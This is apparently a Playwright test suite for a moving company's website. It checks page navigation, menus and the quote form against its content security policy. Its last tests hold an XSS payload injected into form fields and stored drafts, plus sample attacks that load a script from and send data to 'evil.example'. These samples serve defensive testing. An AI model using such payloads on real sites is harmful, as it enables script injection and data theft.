import type { BrowserContextOptions, Page } from "playwright-core";
import { browserPages, hydrated, phone, wide } from "../support/browserPages";
import { builtPages } from "../support/builtPages";
import { readThrough } from "../support/readThrough";
import { refusalsOn } from "../support/refusals";

const { newPage } = browserPages();

/** How many pages a browser has open at a time. */
const atATime = 4;

/** A page, and what its policies refuse on it. */
async function openHeard(path: string, options: BrowserContextOptions = {}) {
  const page = await newPage(options);
  const refused = await refusalsOn(page);
  await page.goto(path);
  return { page, refused };
}

async function walk(path: string): Promise<string[]> {
  const { page, refused } = await openHeard(path);
  await readThrough(page);
  await hydrated(page);
  await readThrough(page);
  await page.close();
  return refused;
}

test("every page does what it does without asking for more than its policy allows", async () => {
  const paths = [...builtPages().map(({ path }) => path), "/nowhere"];
  const refused: string[] = [];
  const next = async (): Promise<void> => {
    const path = paths.shift();
    if (path === undefined) return;
    refused.push(...(await walk(path)));
    await next();
  };
  await Promise.all(Array.from({ length: atATime }, next));
  expect(refused).toEqual([]);
}, 120_000);

const link = (page: Page, place: "contentinfo" | "main", name: string) =>
  page.getByRole(place).getByRole("link", { name, exact: true });

async function shows(page: Page, path: string) {
  await page.waitForURL((url) => url.pathname === path);
  await page.locator("h1").first().waitFor();
}

test("so do the menus, and pages that follow each other", async () => {
  const { page, refused } = await openHeard("/");
  await hydrated(page);
  await page.evaluate(() => {
    document.body.dataset.same = "document";
  });
  const summary = (name: string) =>
    page.locator("header summary", { hasText: name });
  const item = (name: string) =>
    page.locator("header details a", { hasText: name });
  await summary("Resources").hover();
  await item("Service Areas").click();
  await shows(page, "/resources/service-areas");
  await summary("Blog").click();
  await item("Living in Seattle").click();
  await shows(page, "/blog/seattle-living-guide");
  for (const [name, path] of [
    ["Locations", "/locations"],
    ["Services", "/services"],
    ["Contact", "/contact"],
    ["About", "/about"],
    ["Privacy", "/privacy"],
  ] as const) {
    await link(page, "contentinfo", name).click();
    await shows(page, path);
    await readThrough(page);
  }
  expect(await page.locator("body").getAttribute("data-same")).toBe("document");
  await page.evaluate(() => {
    (window as unknown as { ___navigate: (to: string) => void }).___navigate(
      "/nowhere",
    );
  });
  await page.getByRole("heading", { name: "Page Not Found" }).waitFor();
  await link(page, "main", "Return Home").click();
  await shows(page, "/");
  expect(refused).toEqual([]);
});

test("so does the menu of phones", async () => {
  const { page, refused } = await openHeard("/", { viewport: phone });
  await page.getByRole("button", { name: "Menu" }).click();
  await page.locator("header summary", { hasText: "Blog" }).click();
  await page
    .getByRole("navigation", { name: "Main" })
    .getByRole("link", { name: "About" })
    .click();
  await shows(page, "/about");
  expect(refused).toEqual([]);
});

async function fillIn(page: Page): Promise<void> {
  await page.locator("[name=name]").fill("Ann Lee");
  await page.locator("[name=email]").fill("ann@example.com");
  await page.locator("[name=phone]").fill("253 555 0100");
  await page.locator("[name=moveFromDate]").fill("2027-03-01");
  await page.locator("[name=moveSize]").selectOption("2bedroom");
  await page.locator("[name=referralSource]").selectOption("referral");
  await page.locator("[name=message]").fill("Third floor, one piano");
}

test("so does the form, with its mistakes and both its notices", async () => {
  const { page, refused } = await openHeard("/contact", { viewport: wide });
  await hydrated(page);
  const send = page.locator("form button[type=submit]");
  await send.click();
  await page.getByText("Invalid email address").waitFor();
  await fillIn(page);
  await page.route("**/api/quote", (route) => route.fulfill({ status: 500 }));
  await send.click();
  await page.locator("[role=alert]", { hasText: "Error" }).waitFor();
  await page.unroute("**/api/quote");
  await send.click();
  await page.locator("[role=status]", { hasText: "Submitted" }).waitFor();
  await page.reload();
  await hydrated(page);
  expect(refused).toEqual([]);
});

test("words that look like code stay words: in the form, its draft and its mail", async () => {
  const { page, refused } = await openHeard("/contact");
  await hydrated(page);
  await fillIn(page);
  const code = `"><img src=x onerror="document.title='taken'">`;
  const names = ["name", "phone", "message"];
  for (const name of names) await page.locator(`[name=${name}]`).fill(code);
  await page.route("**/api/quote", (route) => route.fulfill({ status: 500 }));
  await page.locator("form button[type=submit]").click();
  const mail = page.locator("form a[href^='mailto:']");
  expect(
    new URL((await mail.getAttribute("href"))!).searchParams.get("body"),
  ).toContain(code);
  // A draft can be anything: whatever ran in this tab may have written it.
  await page.evaluate((text) => {
    const draft = JSON.parse(sessionStorage.getItem("quote-draft")!) as object;
    const spoilt = Object.keys(draft).map((name) => [name, text]);
    sessionStorage.setItem(
      "quote-draft",
      JSON.stringify(Object.fromEntries(spoilt)),
    );
  }, code);
  await page.reload();
  await hydrated(page);
  for (const name of names)
    expect(await page.locator(`[name=${name}]`).inputValue()).toBe(code);
  expect(await page.locator("form img").count()).toBe(0);
  expect(await page.title()).not.toBe("taken");
  expect(refused).toEqual([]);
});

test("so do the answers to a form that is sent without scripts", async () => {
  const { page, refused } = await openHeard("/contact", {
    javaScriptEnabled: false,
  });
  await page.locator("form button").click();
  await page.getByText("Invalid email address").waitFor();
  await fillIn(page);
  await page.getByRole("button").click();
  await page
    .getByRole("heading", { name: "Quote Request Submitted" })
    .waitFor();
  expect(refused).toEqual([]);
});

describe("what the policy is for", () => {
  const attacks: [string, string | (() => void)][] = [
    [
      "a script that was put into the page",
      () => {
        const frame = document.createElement("div");
        frame.setAttribute("onclick", "document.title = 'taken'");
        document.body.append(frame);
        frame.click();
      },
    ],
    [
      "HTML that no part of the site made",
      () => {
        document.body.innerHTML = "<b>taken</b>";
      },
    ],
    [
      "a script from elsewhere",
      () => {
        const script = document.createElement("script");
        script.src = "https://evil.example/a.js";
        document.body.append(script);
      },
    ],
    ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
    [
      "text that is run",
      // What the test itself runs may do so; what it leaves to do may not.
      "void setTimeout(() => new Function(`document.title = 'taken'`)())",
    ],
    [
      "a part of the site that is not known",
      () => {
        window.trustedTypes?.createPolicy("default", {});
      },
    ],
  ];

  test.each(attacks)("%s is refused", async (_what, attack) => {
    const { page, refused } = await openHeard("/about");
    await hydrated(page);
    await page.evaluate(attack).catch(() => undefined);
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(resolve, 50);
        }),
    );
    expect(refused).not.toEqual([]);
    expect(await page.locator("h1").textContent()).not.toBe("");
    expect(await page.title()).not.toBe("taken");
  });
});
